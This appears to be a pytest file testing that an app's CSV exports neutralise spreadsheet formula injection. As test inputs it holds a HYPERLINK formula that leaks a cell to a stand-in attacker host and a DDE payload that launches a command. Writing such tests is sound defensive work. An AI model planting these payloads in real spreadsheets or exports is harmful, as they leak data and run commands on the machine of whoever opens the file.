"""Issue 16.12: no CSV Tandem writes lets a spreadsheet run a cell as a formula (OWASP)."""

from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner

from tandem.core.spreadsheet import neutralise

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number stays a number
        ("+1.5", "+1.5"),
        ("Ada = fine", "Ada = fine"),
        (7, 7),
        (None, None),
    ],
)
def test_it_neutralises_exactly_the_cells_that_start_like_a_formula(value, written):
    assert neutralise(value) == written


def test_the_audit_csv_shows_a_formula_like_address_as_text(client, people):
    people.therapist.email = "=cmd@harbour.test"
    people.therapist.save()
    client.force_login(people.therapist)
    client.get(f"/clients/{people.client.pk}/")
    client.force_login(people.admin)
    response = client.get(f"/practice/clients/{people.client.pk}/audit/?format=csv")
    body = b"".join(response.streaming_content).decode()
    assert "'=cmd@harbour.test,client.view" in body
    assert "\n=cmd" not in body and ",=cmd" not in body


def test_the_csv_export_neutralises_free_text_answers(people: Any, tmp_path: Path) -> None:
    from tandem.cli import main
    from tandem.measures.actions import submit_response

    answers = {"presence": 5, "learned": FORMULA, "disclosed": False}
    submit_response(people.therapist, people.episode, "reflection", answers, session=people.session)
    result = CliRunner().invoke(
        main, ["export", "--format", "csv", str(tmp_path), "--as", "therapist@harbour.test"]
    )
    assert result.exit_code == 0, result.output
    cells = pd.read_csv(tmp_path / "answers.csv", dtype=str).to_numpy().ravel().tolist()
    assert "'" + FORMULA in cells
    assert not any(isinstance(c, str) and c.startswith("=") for c in cells)
